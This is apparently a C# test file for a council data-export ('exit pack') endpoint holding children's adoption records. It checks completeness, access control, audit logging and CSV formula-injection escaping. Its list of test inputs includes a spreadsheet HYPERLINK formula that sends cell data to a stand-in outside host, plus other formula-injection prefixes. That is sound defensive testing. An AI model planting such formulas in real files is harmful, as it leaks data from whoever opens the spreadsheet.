using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Partnership.ServiceDefaults.Authentication;
using Partnership.ServiceDefaults.ExitPack;
using Partnership.TestSupport;

namespace Partnership.LocalityHub.Tests.ExitPack;

/// <summary>What a leaving council takes with it: all of it, for its guardian alone, in files that are safe to open.</summary>
public sealed class ExitPackTests(HubFixture hub) : IClassFixture<HubFixture>
{
    private const string Pack = "/api/v1/councils/860/exit-pack";

    // One for each way in which a cell can begin like a formula.
    private static readonly string[] Formulas =
        ["=HYPERLINK(\"http://elsewhere.example/?\"&A1)", "+1", "-1+1", "@SUM(1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x"];

    [Fact]
    public async Task Get_AsTheGuardian_HoldsEveryTableEveryRowAndTheRequestItself()
    {
        await FillAsync();

        var pack = await FetchAsync();

        // Every table of the database is in it or named as left out: by the catalogue, not by the model that it was made from.
        var tables = JsonDocument.Parse(await TextAsync("select json_agg(table_name)::text from information_schema.tables where table_schema in ('public', 'sealed') and table_name <> '__EFMigrationsHistory'"))
            .RootElement.EnumerateArray().Select(name => name.GetString()!).ToList();
        var manifest = pack.Manifest;
        var leftOut = manifest.GetProperty("leftOut").EnumerateObject().Select(table => table.Name).Where(name => !name.Contains('.', StringComparison.Ordinal)).ToList();
        Assert.Equal(tables.Order(), pack.Names("data/", ".json").Concat(leftOut).Order());
        Assert.Equal(tables.Order(), pack.Names("data/", ".csv").Concat(leftOut).Order());

        foreach (var table in pack.Names("data/", ".json"))
        {
            var rows = long.Parse(await TextAsync($"select count(*)::text from {table}"), CultureInfo.InvariantCulture);
            Assert.Equal(rows, JsonDocument.Parse(pack.Files[$"data/{table}.json"]).RootElement.GetArrayLength());
            Assert.Equal(rows, pack.Rows(table).Count);
        }

        // No secret of the hub's own, by whatever column it is kept in.
        Assert.DoesNotContain(pack.Names("data/", ".csv"), table => Encoding.UTF8.GetString(pack.Files[$"data/{table}.csv"]).Split("\r\n")[0].Contains("secret", StringComparison.Ordinal));

        // The restricted child too, and the entry that says who took all this.
        Assert.Contains(pack.Rows("child"), row => row["local_id"] == "PACK2");
        Assert.Single(pack.Rows("child_restriction"));
        Assert.Contains(pack.Rows("audit_entry"), row => row["operation"] == "council.exit-pack" && row["outcome"] == "done");
        Assert.Contains("Staffordshire (860)", Encoding.UTF8.GetString(pack.Files["README.md"]), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Get_TheManifest_IsOfTheFilesThatCame()
    {
        var pack = await FetchAsync();

        pack.DemandThatItIsAsItsManifestSays();
    }

    [Fact]
    public async Task Get_TextThatBeginsLikeAFormula_IsHarmlessInTheCsvAndItselfInTheJson()
    {
        await FillAsync();
        foreach (var (index, formula) in Formulas.Index())
        {
            await using var db = hub.Db();
            await db.Database.ExecuteSqlAsync($"insert into child (id, local_id, given_name, family_name, held, version, updated_at) values (gen_random_uuid(), {$"F{index}"}, {formula}, 'Plain', false, 1, now())");
        }

        var pack = await FetchAsync();

        var children = pack.Rows("child").ToDictionary(row => row["local_id"]);
        var exact = JsonDocument.Parse(pack.Files["data/child.json"]).RootElement.EnumerateArray().ToDictionary(row => row.GetProperty("local_id").GetString()!);
        foreach (var (index, formula) in Formulas.Index())
        {
            Assert.Equal("'" + formula, children[$"F{index}"]["given_name"]);
            Assert.Equal("Plain", children[$"F{index}"]["family_name"]);
            Assert.Equal(formula, exact[$"F{index}"].GetProperty("given_name").GetString());
        }

        // In every file and column: nothing begins so but numbers.
        foreach (var (table, row) in pack.Names("data/", ".csv").SelectMany(table => pack.Rows(table).Select(row => (table, row))))
        {
            Assert.All(row, cell => Assert.True(
                cell.Value.Length == 0 || !"=+-@\t\r\n＝＋－＠".Contains(cell.Value[0], StringComparison.Ordinal) || long.TryParse(cell.Value, out _), $"{table}.{cell.Key}: {cell.Value}"));
        }
    }

    [Fact]
    public void Cell_OfText_IsBehindAnApostropheWhereItMustBe()
    {
        Assert.All(Formulas.Append("=").Append("\0x"), text => Assert.Equal("'" + text, SafeCell.Of(text)));
        Assert.All(new[] { "", "O'Neil-Smith", "a=b", " =1" }, text => Assert.Equal(text, SafeCell.Of(text)));
    }

    [Theory]
    [InlineData(Roles.CaseSystem)]
    [InlineData(Roles.SocialWorker)]
    [InlineData(Roles.FamilyFinder)]
    [InlineData(Roles.Operator)]
    public async Task Get_AsAnybodyElse_IsRefusedAndEntered(string role)
    {
        using var client = hub.ClientOf(role, 860);
        using var response = await client.GetAsync(Pack, TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.NotEqual("0", await TextAsync("select count(*)::text from audit_entry where operation = 'council.exit-pack' and outcome = 'refused-role'"));
    }

    [Fact]
    public async Task Get_AsAnotherCouncilsGuardian_IsNotThere()
    {
        using var client = hub.ClientOf(Roles.CaldicottGuardian, 861);
        using var response = await client.GetAsync(Pack, TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }

    private async Task FillAsync()
    {
        await hub.ImportAsync(new ReturnFiles().Waiting("PACK1").Adopted("PACK2"));
        var child = await hub.ChildIdAsync("PACK2");
        using var guardian = hub.ClientOf(Roles.CaldicottGuardian, 860);
        using var read = await guardian.GetAsync($"/api/v1/councils/860/children/{child}");
        using var request = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/councils/860/children/{child}/restriction")
        {
            Content = JsonContent.Create(new { roles = Array.Empty<string>(), reason = "court-direction" }),
        };
        request.Headers.TryAddWithoutValidation("If-Match", read.Headers.ETag!.ToString());
        using var restricted = await guardian.SendAsync(request);
        Assert.True(restricted.IsSuccessStatusCode, await restricted.Content.ReadAsStringAsync());
    }

    private async Task<TakenPack> FetchAsync()
    {
        using var guardian = hub.ClientOf(Roles.CaldicottGuardian, 860);
        using var response = await guardian.GetAsync(Pack);
        return await TakenPack.OfAsync(response);
    }

    private Task<string> TextAsync(string query) => hub.Database.ScalarAsync<string>(query);
}
